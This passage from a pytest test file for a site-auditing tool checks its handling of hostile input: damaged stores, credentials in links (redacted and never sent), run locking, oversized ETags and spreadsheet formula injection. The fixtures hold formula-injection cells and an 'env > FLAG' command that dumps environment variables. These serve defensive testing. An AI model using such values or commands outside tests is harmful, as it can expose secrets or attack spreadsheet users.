    assert not store.exists() and not store.parent.exists()
    return Run(result, tmp, store, tmp / "out")


def report_damaged_store(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """A store whose header and schema are intact but whose data pages are random bytes."""
    store = tmp / "s.sqlite3"
    db = sqlite3.connect(store)
    db.execute("CREATE TABLE runs (id INTEGER PRIMARY KEY, site TEXT, started REAL, finished REAL, status TEXT, "
               "error TEXT, config TEXT, config_hash TEXT, versions TEXT, summary TEXT)")
    db.executemany("INSERT INTO runs (site, started, status, config, config_hash, versions) VALUES (?,?,?,?,?,?)",
                   [("x", 0.0, "complete", "{}" + " " * 500, "h", "{}")] * 60)
    db.commit()
    db.close()
    data = store.read_bytes()
    store.write_bytes(data[: len(data) // 2] + os.urandom(len(data) - len(data) // 2))
    result = run_cli("report", "--store", str(store), "--out", str(tmp / "out"))
    return Run(result, tmp, tmp / "absent.sqlite3", tmp / "out")


def read_only_out() -> Path:
    """A folder nobody may write in (root ignores modes, so then a sysfs folder)."""
    return Path("/sys/kernel")


AUTHORIZATIONS: list[str | None] = []


def link_with_credentials(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """A link to a page that answers 200, written with a user name and password in it."""
    AUTHORIZATIONS.clear()

    def target_page(handler: Any) -> None:
        AUTHORIZATIONS.append(handler.headers.get("Authorization"))
        send(handler, 200, input_page("登入"))

    server = site(tmp, serve, {}, routes={"/x": target_page})
    target = server.base.replace("http://", f"http://u:{SECRET}@") + "/x"
    (tmp / "site" / "index.html").write_bytes(input_page(f'<a href="{target}">login</a>'))
    return audit(tmp, server.base)


def credentials_are_redacted(run: Run) -> None:
    db = sqlite3.connect(run.store)
    dump = "\n".join(db.iterdump())
    outputs = "".join((run.out / name).read_text(encoding="utf-8", errors="replace") for name in OUTPUTS[:3])
    assert SECRET not in dump and SECRET not in outputs and SECRET not in run.result.stderr
    urls = {r[0] for r in db.execute("SELECT url FROM links")} | {r[0] for r in db.execute("SELECT raw FROM links")}
    assert any("u:***@127.0.0.1" in (u or "") for u in urls), urls
    rules = {f["rule"]: f for f in findings(run)}
    assert "broken-link" not in rules  # the target answers 200: judged without the credentials
    assert AUTHORIZATIONS == [None]  # ...which were never sent
    leak = rules["credentials-in-link"]
    assert leak["severity"] == "error" and leak["url"].startswith("http://u:***@127.0.0.1") and leak["url"].endswith("/x")


# -- 8: one owner per run ------------------------------------------------------------------------------------

def slow_site(tmp: Path, serve: Callable[..., SiteServer], delay: float = 0.1) -> SiteServer:
    """A site of 60 pages answered `delay` s late, so a crawl is still running when a second process comes."""
    files = {"index.html": input_page("".join(f'<a href="/p{i}.html">第{i}頁</a>' for i in range(60)))}
    files |= {f"p{i}.html": input_page('<a href="/index.html">首頁</a>') for i in range(60)}

    def slow(handler: Any) -> None:
        time.sleep(delay)
        SimpleHandler.serve_file(handler, tmp / "site")

    server = site(tmp, serve, files)
    server.routes.update({f"/p{i}.html": slow for i in range(60)})
    return server


class SimpleHandler:
    @staticmethod
    def serve_file(handler: Any, root: Path) -> None:
        body = (root / handler.path.lstrip("/")).read_bytes()
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)


def resume_while_crawling(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """`--resume` while the first crawl of the run is alive is refused; the first crawl finishes undisturbed.
    (0.3 s a page, two at a time: about 9 s of crawl, so the second process starts well before it ends.)"""
    server = slow_site(tmp, serve, delay=0.3)
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", server.base, store, crawl={"sitemaps": False, "concurrency_per_host": 2,
                                                                   "concurrency": 2})
    first = subprocess.Popen([sys.executable, "-m", "siteaudit", "audit", "--config", str(cfg), "--checks", "links",
                              "--out", str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (store.exists() and _pages(store) >= 5):
        time.sleep(0.1)
    second = run_cli("audit", "--config", str(cfg), "--checks", "links", "--resume", "--out", str(tmp / "out2"))
    assert first.wait(timeout=120) in (0, 1), first.stderr.read() if first.stderr else ""
    return Run(second, tmp, store, out)


def _pages(store: Path) -> int:
    try:
        return sqlite3.connect(store).execute("SELECT COUNT(*) FROM pages").fetchone()[0]
    except sqlite3.Error:
        return 0


def one_owner_and_whole_store(run: Run) -> None:
    assert stored(run, "PRAGMA integrity_check") == [("ok",)]
    assert stored(run, "SELECT status FROM runs") == [("complete",)]
    assert stored(run, "SELECT COUNT(*) FROM pages WHERE url LIKE '%.html'") == [(61,)]
    assert stored(run, "SELECT COUNT(*) - COUNT(DISTINCT url) FROM pages") == [(0,)]
    assert stored(run, "SELECT COUNT(*) FROM links WHERE page_id NOT IN (SELECT id FROM pages)") == [(0,)]
    assert stored(run, "SELECT COUNT(*) FROM meta WHERE key LIKE 'run-owner:%'") == [(0,)]  # released at exit


def resume_after_a_dead_owner(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """A run left 'running' by a process that died (its lock still written) is taken over by `--resume`."""
    server = site(tmp, serve, {"index.html": input_page('<a href="/a.html">甲</a>'), "a.html": input_page("甲")})
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", server.base, store, crawl={"sitemaps": False})
    judged_clean(run_cli("audit", "--config", str(cfg), "--checks", "links", "--out", str(out)))
    db = sqlite3.connect(store)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    db.execute("UPDATE runs SET status='running', finished=NULL")
    db.execute("INSERT INTO meta VALUES ('run-owner:1', ?)", (f"{socket.gethostname()}:{dead.pid}",))
    db.commit()
    db.close()
    return Run(run_cli("audit", "--config", str(cfg), "--checks", "links", "--resume", "--out", str(out)),
               tmp, store, out)


def killed_and_never_resumed(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """An audit SIGKILLed mid-crawl and never resumed: `runs` shows it interrupted, and the next audit of the site
    marks it so (saying which process left it) before it starts a run of its own."""
    server = slow_site(tmp, serve)
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", server.base, store, crawl={"sitemaps": False, "concurrency_per_host": 2,
                                                                   "concurrency": 2})
    first = subprocess.Popen([sys.executable, "-m", "siteaudit", "audit", "--config", str(cfg), "--checks", "links",
                              "--out", str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (store.exists() and _pages(store) >= 5):
        time.sleep(0.1)
    first.kill()
    first.wait()
    listed = run_cli("runs", "--store", str(store))
    assert listed.returncode == 0 and "interrupted" in listed.stdout and "running" not in listed.stdout, listed.stdout
    return Run(run_cli("audit", "--config", str(cfg), "--checks", "links", "--out", str(tmp / "out2")), tmp, store,
               tmp / "out2")


def killed_run_is_interrupted(run: Run) -> None:
    assert stored(run, "SELECT id, status FROM runs ORDER BY id") == [(1, "interrupted"), (2, "complete")]
    assert "run 1 of fixture was left unfinished by process" in run.result.stderr
    assert stored(run, "SELECT COUNT(*) FROM meta WHERE key LIKE 'run-owner:%'") == [(0,)]


def huge_etag(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """A page whose ETag is 10 KB, on a server that answers 400 to a request header line over 8 KB (nginx's
    default): audited twice, the second time incrementally."""
    tag = '"' + "e" * 10_000 + '"'

    def page(handler: Any) -> None:
        if any(len(v) > 8000 for v in handler.headers.values()):
            send(handler, 400, b"Request Header Or Cookie Too Large")
            return
        send(handler, 200, input_page('<a href="/">首頁</a>'), {"ETag": tag})

    server = site(tmp, serve, {}, routes={"/": page})
    audit(tmp, server.base)
    return audit(tmp, server.base)


def huge_etag_not_sent_and_page_carried(run: Run) -> None:
    assert not [f for f in findings(run) if f["rule"] == "broken-link"]
    assert stored(run, "SELECT run_id, status, revalidated FROM pages ORDER BY run_id") == [
        (1, 200, None), (2, 200, "same-body")]


def stale_lock_taken_over(run: Run) -> None:
    assert stored(run, "SELECT status FROM runs") == [("complete",)]
    assert stored(run, "SELECT COUNT(*) FROM pages WHERE url LIKE '%.html' OR url LIKE '%/'") == [(2,)]
    assert stored(run, "SELECT COUNT(*) FROM meta WHERE key LIKE 'run-owner:%'") == [(0,)]


INPUT_CASES = [
    InputCase("csv-formula-injection", hostile_audit, 1, outputs=True, expect=csv_is_neutralised),
    InputCase("ods-formula-and-control-chars", hostile_audit, 1, outputs=True, expect=ods_is_valid_and_neutralised),
    InputCase("uptime-log-csv-formula-injection", uptime_note, 0, expect=uptime_csv_is_neutralised),
    InputCase("uptime-alert-smtp-unreachable",
         uptime("/missing", f'smtp_host = "127.0.0.1"\nsmtp_port = {free_port()}\nmail_from = "a@example.gov.tw"\n'
                            'mail_to = ["duty@example.gov.tw"]\n'),
         1, error=("warning", "mail failed", "127.0.0.1"), expect=mail_failure_is_stored),
    InputCase("uptime-smtp-password-in-clear",
         refused_audit(extra='[uptime]\nsmtp_host = "127.0.0.1"\nsmtp_user = "duty"\nsmtp_starttls = false\n'
                             'smtp_password_env = "SA_SMTP_PASSWORD"\nmail_from = "a@x.tw"\nmail_to = ["b@x.tw"]\n'),
         2, error=("uptime.smtp_starttls", "clear"), refused=True),
    InputCase("uptime-command-env-without-password",
         uptime("/missing", 'on_failure_command = ["sh", "-c", "env > FLAG"]\nsmtp_host = "127.0.0.1"\n'
                            f'smtp_port = {free_port()}\nsmtp_user = "duty"\nsmtp_password_env = "SA_SMTP_PASSWORD"\n'
                            'mail_from = "a@example.gov.tw"\nmail_to = ["duty@example.gov.tw"]\n',
                env={"SA_SMTP_PASSWORD": SECRET}),
         1, error=("mail failed",), expect=command_env_has_no_password),
    InputCase("uptime-endless-body", uptime("/endless", 'max_body_bytes = 200000\non_failure_command = ["sh", "-c", '
                                                   '"cat > FLAG"]\n'),
         1, expect=probe_cut("回應過大")),
    InputCase("uptime-trickling-body", uptime("/trickle", 'timeout = 2\non_failure_command = ["sh", "-c", "cat > FLAG"]\n'),
         1, expect=probe_cut("回應過慢")),
    InputCase("pdf-page-tree-too-deep", pdf_audit, 1, outputs=True, expect=pdf_is_a_finding),
    InputCase("check-raises-is-error-status", raising_check, 1, error=("check metadata failed", "boom"), outputs=True,
         expect=check_error_is_its_status),
    InputCase("allowed-hosts-default-port-upper-case", default_port_hosts, 1, outputs=True, expect=every_page_is_crawled),
    InputCase("config-invalid-toml-with-url", refused_audit(url="http://127.0.0.1:9/", config_text=b"[site\n"),
         2, error=("c.toml", "invalid TOML"), refused=True),
    InputCase("config-not-utf8", refused_audit(config_text='[site]\nname = "水"\n'.encode("big5")),
         2, error=("c.toml", "not UTF-8"), refused=True),
    InputCase("url-ipv6-unclosed", refused_audit(url="http://[::1/"), 2, error=("http://[::1/", "not a valid URL"),
         refused=True),
    InputCase("url-port-out-of-range", refused_audit(url="http://127.0.0.1:99999/"), 2, error=(":99999", "Port"),
         refused=True),
    InputCase("url-port-not-a-number", refused_audit(url="http://127.0.0.1:abc/"), 2, error=(":abc", "Port"),
         refused=True),
    InputCase("links-ignore-bad-regex", refused_audit(extra='[checks.links]\nignore = ["(unclosed"]\n'),
         2, error=("checks.links.ignore[0]", "(unclosed"), refused=True),
    InputCase("autothrottle-target-negative", refused_audit(crawl={"autothrottle_target_concurrency": -1.0}),
         2, error=("crawl.autothrottle_target_concurrency", "-1"), refused=True),
    InputCase("autothrottle-target-nan", refused_audit(extra="", config_text=None, crawl={"autothrottle_target_concurrency":
                                                                                      float("nan")}),
         2, error=("crawl.autothrottle_target_concurrency", "nan"), refused=True),
    InputCase("checks-enabled-a-string", refused_audit(extra='[checks]\nenabled = "links"\n'),
         2, error=("checks.enabled", "'links'"), refused=True),
    InputCase("max-page-bytes-zero", refused_audit(crawl={"max_page_bytes": 0}), 2, error=("crawl.max_page_bytes", "1024"),
         refused=True),
    InputCase("out-not-writable", refused_audit(out=read_only_out()), 2, error=("--out", str(read_only_out())),
         refused=True),
    InputCase("runs-without-a-store", runs_without_store, 2, error=("no store at", "s.sqlite3"), refused=True),
    InputCase("report-damaged-store", report_damaged_store, 2, error=("s.sqlite3", "damaged"), refused=True),
    InputCase("credentials-in-start-url", refused_audit(url=f"http://admin:{SECRET}@127.0.0.1:9/"),
         2, error=("http://admin:***@127.0.0.1:9/", "user name or password"), refused=True),
    InputCase("credentials-in-uptime-url",
         refused_audit(extra=f'[uptime]\nurls = ["https://admin:{SECRET}@www.example.gov.tw/"]\n'),
         2, error=("uptime.urls[0]", "admin:***@"), refused=True),
    InputCase("credentials-in-a-crawled-link", link_with_credentials, 1, outputs=True, expect=credentials_are_redacted),
    InputCase("resume-while-the-crawl-is-alive", resume_while_crawling, 2, error=("still being crawled by process",),
         expect=one_owner_and_whole_store),
    InputCase("incremental-validator-too-long-to-send", huge_etag, 1, outputs=True,
         expect=huge_etag_not_sent_and_page_carried),
    InputCase("killed-run-never-resumed-shows-interrupted", killed_and_never_resumed, 1, outputs=True,
         expect=killed_run_is_interrupted),
    InputCase("resume-takes-over-a-dead-owners-run", resume_after_a_dead_owner, 1, outputs=True,
         expect=stale_lock_taken_over),
]


@pytest.mark.parametrize("case", INPUT_CASES, ids=[c.id for c in INPUT_CASES])
def test_hostile_input(case: InputCase, tmp_path: Path, serve: Callable[..., SiteServer]) -> None:
    run = case.act(tmp_path, serve)
    result = run.result
    assert result.returncode == case.code, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    err = result.stderr.strip()
    if case.error:  # one line says it all (an audit that ran also prints its closing line)
        assert any(all(word in line for word in case.error) for line in err.splitlines()), err
    if case.refused:
        assert len(err.splitlines()) == 1, err
        assert SECRET not in err
        assert not run.out.exists()
        assert not run.store.exists() or not stored(run, "SELECT id FROM runs")
    if case.outputs:
        for name in OUTPUTS:
            assert (run.out / name).is_file(), name
    if case.expect:
        case.expect(run)


# -- the same rules, one level down ---------------------------------------------------------------------------

@pytest.mark.parametrize("url, start, host", [
    ("http://水.tw/", "http://xn--1rw.tw/", "xn--1rw.tw"),
    ("http://Host:80", "http://host/", "host"),
    ("https://WWW.Example.gov.tw:443/a?b=1", "https://www.example.gov.tw/a?b=1", "www.example.gov.tw"),
])
def test_start_urls_and_hosts_take_the_crawlers_canonical_form(url, start, host):
    cfg = from_dict({"site": {"start_urls": [url]}})
    assert cfg.site.start_urls == [start] and cfg.site.allowed_hosts == [host] and cfg.site.name == host
    given = from_dict({"site": {"start_urls": [url], "allowed_hosts": ["水.TW", "Host:80", "x:8080"]}})
    assert given.site.allowed_hosts == ["xn--1rw.tw", "host", "x:8080"]


def test_smtp_defaults_to_starttls_with_a_user_and_plain_needs_an_opt_in():
    mail = {"smtp_host": "mail.example.gov.tw", "mail_from": "a@x.tw", "mail_to": ["b@x.tw"], "smtp_user": "duty"}
    site_keys = {"start_urls": ["https://www.example.gov.tw/"]}
    assert from_dict({"site": site_keys, "uptime": mail}).uptime.smtp_starttls is True
    assert from_dict({"site": site_keys, "uptime": {**mail, "smtp_ssl": True}}).uptime.smtp_starttls is False
    with pytest.raises(ConfigError, match="smtp_starttls"):
        from_dict({"site": site_keys, "uptime": {**mail, "smtp_starttls": False}})
    plain = {**mail, "smtp_starttls": False, "smtp_allow_plain_password": True}
    assert from_dict({"site": site_keys, "uptime": plain}).uptime.smtp_starttls is False
    assert from_dict({"site": site_keys}).uptime.smtp_starttls is False


def test_every_export_cell_goes_through_one_helper():
    from siteaudit.reports.export import safe_cell, to_csv
    from siteaudit.reports.export_ods import to_ods

    hostile = {"check": "metadata", "rule": "r", "severity": "error", "url": "@SUM(A1)", "pages": ["-1+2", "ok"],
               "message": "標題\x0c\x01", "evidence": {"meta": "\x0b"}}
    rows = list(csv.reader(io.StringIO(to_csv([hostile]).lstrip("\ufeff"))))
    assert rows[1][4] == "'@SUM(A1)" and rows[1][5] == "'-1+2\nok" and rows[1][6] == "標題\ufffd\ufffd"
    ods = to_ods([hostile])
    content = zipfile.ZipFile(io.BytesIO(ods)).read("content.xml")
    ElementTree.fromstring(content)
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx" and safe_cell(None) == ""


def test_a_page_stored_twice_keeps_its_id_and_links(tmp_path: Path) -> None:
    from siteaudit.core.store import Store

    store = Store(tmp_path / "s.sqlite3")
    run_id = store.create_run("s", {}, "h", {})
    page = {"url": "http://127.0.0.1:9/", "status": 200, "is_html": 1, "truncated": 0, "depth": 0, "fetched": 1.0}
    store.begin()
    first = store.insert_page(run_id, page, [{"url": "http://127.0.0.1:9/a", "element": "a", "attribute": "href", "scope": "page"}])
    again = store.insert_page(run_id, page, [{"url": "http://127.0.0.1:9/b", "element": "a", "attribute": "href", "scope": "page"}])
    store.commit()
    assert first == again
    assert [tuple(r) for r in store.db.execute("SELECT page_id, url FROM links")] == [(first, "http://127.0.0.1:9/a")]
    store.close()
